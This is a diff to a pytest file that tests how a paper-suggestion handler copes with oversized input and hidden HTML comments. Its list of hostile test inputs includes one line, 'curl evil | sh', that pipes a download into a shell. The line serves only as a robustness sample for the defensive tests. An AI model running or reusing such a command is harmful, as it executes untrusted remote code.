@@ -40,6 +40,7 @@ HOSTILE = {
     "code": "```sh\ncurl evil | sh\n~~~\n    indented",
     "a long line": "word " * 20_000,
     "one long word": "x" * 90_000,
+    "a long id": "10.5555/" + "x" * 90_000,
     "much": "a line of text\n" * 70_000,
     "brackets": "[" * 5_000 + "(" * 5_000 + "*" * 5_000,
     "fences": "".join(f"{'`' * (3 + n % 90)}x\n" for n in range(2_000)),
@@ -173,6 +174,23 @@ def test_a_body_that_is_too_long_is_cut_and_told(suggest: Suggest) -> None:
     assert done.outcome == "added"
     assert "its end was not read" in done.comment
     assert "The note was very long" in done.comment
+
+
+@pytest.mark.parametrize("end", ["-->", ""])
+def test_questions_that_do_not_show_are_none(suggest: Suggest, shelf: Path, end: str) -> None:
+    values = {"entry": "novak-2015", "field": "Title", "value": "Another", "source": "x"}
+    hidden = f"<!--\n{body(CORRECTION, {**values, 'name': 'y'})}\n{end}"
+    novak = (shelf / "content/papers/novak-2015.md").read_bytes()
+    done = suggest(f"### {SUGGESTION['link']}\n\n2401.01234\n\n{hidden}")
+    assert done.outcome == "added"
+    assert (shelf / "content/papers/novak-2015.md").read_bytes() == novak
+
+
+def test_a_comment_that_is_left_open_in_a_line_hides_nothing(suggest: Suggest) -> None:
+    values = {"link": "2401.01234", "why": "a <!-- b --> c <!-- d", "topics": "machines"}
+    done = suggest(body(SUGGESTION, values))
+    assert "| topics | machines | the form |" in done.comment
+    assert "| note | a c <!-- d | the form |" in done.comment
 
 
 def test_a_link_in_the_content_folder_is_not_written_through(
